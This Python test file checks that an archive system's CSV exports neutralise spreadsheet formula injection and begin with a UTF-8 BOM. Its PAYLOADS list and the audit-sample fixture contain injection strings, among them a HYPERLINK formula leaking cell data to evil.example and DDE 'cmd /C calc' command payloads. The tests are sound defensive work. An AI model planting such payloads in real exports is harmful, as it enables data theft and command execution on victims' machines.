"""CSV exports cannot smuggle a formula into the auditor's spreadsheet (CSV injection), and
every CSV starts with a UTF-8 BOM so Excel reads the Chinese.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is made text
with a leading ``'`` (OWASP). Numbers written as numbers (the access log's ``seq``, a
certificate's item and size) stay numbers: only text cells are neutralised.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy import select

from access.audit_sample import AuditSample, SampledRecord, sample_csv, write_sample
from access.incident import reads_csv
from archive.models import AccessEvent, Role
from tests.access.conftest import World
from tests.access.test_web import BASE, give_password, login

BOM = "\ufeff"

#: What an attacker puts where their text reaches a CSV cell (here: the User-Agent header).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",  # a full-width equals sign, which some spreadsheet programs read as "="
]
#: User names may begin with "-" or "@" too (the name rule allows them).
NAMES = ["-evil", "@evil"]


def _read_with(world: World, who: str, key: str, agent: str) -> None:
    world.call(
        "GET", who, f"/api/v1/versions/{world.versions[key]}/content", headers={"User-Agent": agent}
    )


def _rows(raw: bytes) -> list[dict[str, str]]:
    assert raw.startswith(BOM.encode()), raw[:20]
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def test_the_access_log_export_through_the_api(world: World) -> None:
    for agent in PAYLOADS:
        _read_with(world, "wang", "CG-internal", agent)
    for name in NAMES:
        world.add_user(name, Role.SPECIALIST)
        _read_with(world, name, "CG-internal", "Mozilla/5.0")
    exported = world.call(
        "GET", "zhou", f"/api/v1/access-log?format=csv&record={world.records['CG-internal']}"
    )
    assert exported.status_code == 200
    rows = _rows(exported.data)
    assert [r["客户端"] for r in rows] == ["'" + p for p in PAYLOADS] + ["Mozilla/5.0"] * 2
    assert [r["用户"] for r in rows] == ["wang"] * len(PAYLOADS) + ["'-evil", "'@evil"]
    assert [int(r["序号"]) for r in rows] == sorted(int(r["序号"]) for r in rows)  # numbers
    assert {(r["操作"], r["结果"]) for r in rows} == {("查看", "允许"), ("查看", "已拒绝")}
    assert {r["原因"] for r in rows} <= {"常设权限", "依据查阅授权", "无此档案的查阅授权"}  # words
    english = world.call("GET", "zhou", "/api/v1/access-log?format=csv&lang=en")
    assert next(csv.reader(io.StringIO(english.data.decode("utf-8-sig"))))[:3] == [
        "No.",
        "Time (Beijing)",
        "User",
    ]


def test_the_access_log_export_on_the_auditors_page(world: World) -> None:
    for agent in PAYLOADS:
        _read_with(world, "wang", "CG-internal", agent)
    give_password(world, "zhou", "correct horse battery")
    browser = world.app.test_client()
    assert login(browser, "zhou", "correct horse battery") == 302
    exported = browser.get(
        f"/audit/access-log?record={world.records['CG-internal']}&format=csv", base_url=BASE
    )
    assert exported.status_code == 200
    rows = _rows(exported.data)
    assert [r["客户端"] for r in rows] == ["'" + p for p in PAYLOADS]
    assert {r["档号或名称"] for r in rows} == {"华东仓储改造项目CG-internal-2026-05"}
    # Beijing time to the second, eight hours ahead of the stored UTC.
    with world.arc.sessions() as session:
        first = session.scalar(select(AccessEvent).where(AccessEvent.seq == int(rows[0]["序号"])))
        assert first is not None
    shown = datetime.strptime(rows[0]["时间（北京时间）"], "%Y-%m-%d %H:%M:%S")
    assert abs(shown - (first.at.astimezone(UTC).replace(tzinfo=None) + timedelta(hours=8))) < (
        timedelta(seconds=1)
    )


def test_the_incident_export(world: World) -> None:
    for agent in PAYLOADS:
        _read_with(world, "zhang", "CG-internal", agent)
    with world.arc.sessions() as session:
        raw = "".join(reads_csv(session, "zhang")).encode()
    rows = _rows(raw)
    assert [r["user_agent"] for r in rows] == ["'" + p for p in PAYLOADS]
    assert all(int(r["seq"]) > 0 for r in rows)


def _sample() -> AuditSample:
    record = SampledRecord(
        uuid.uuid4(),
        '=HYPERLINK("http://evil.example")',
        "-2+3+cmd|' /C calc'!A0",
        reads=3,
        refusals=["@attacker view 2026-07-01 10:00 10.0.0.9: no grant"],
        unapproved_emergency=["+wang 2026-07-01 10:00 (denied)"],
    )
    return AuditSample("2026Q3", 42, 8, [record], datetime(2026, 7, 1, tzinfo=UTC))


def test_the_audit_sample(tmp_path: Path) -> None:
    text = sample_csv(_sample())
    assert text.startswith(BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    header = rows.index(["档号 Reference code", "名称 Name", "题名 Title", "四性 Checks",
                         "读取 Reads", "拒绝 Refused", "发现 Findings"])  # fmt: skip
    body = rows[header + 1]
    assert body[1] == '\'=HYPERLINK("http://evil.example")'
    assert body[2] == "'-2+3+cmd|' /C calc'!A0"
    assert body[5] == "'@attacker view 2026-07-01 10:00 10.0.0.9: no grant"
    assert body[6] == "绿色通道未获批准：+wang 2026-07-01 10:00 (denied)"
    csv_path, _pdf = write_sample(_sample(), tmp_path)
    assert csv_path.read_bytes().startswith(BOM.encode())


def test_a_user_agent_in_utf_8_is_logged_as_written(world: World) -> None:
    """A server hands headers over decoded as Latin-1 (WSGI): a client naming itself in
    Chinese was logged as mojibake (æ¡£æ¡ˆ…)."""
    sent = "档案助手/1.0".encode().decode("latin-1")  # what gunicorn puts in the environ
    _read_with(world, "zhang", "CG-internal", sent)
    with world.arc.sessions() as session:
        rows = _rows("".join(reads_csv(session, "zhang")).encode())
    assert [r["user_agent"] for r in rows] == ["档案助手/1.0"]
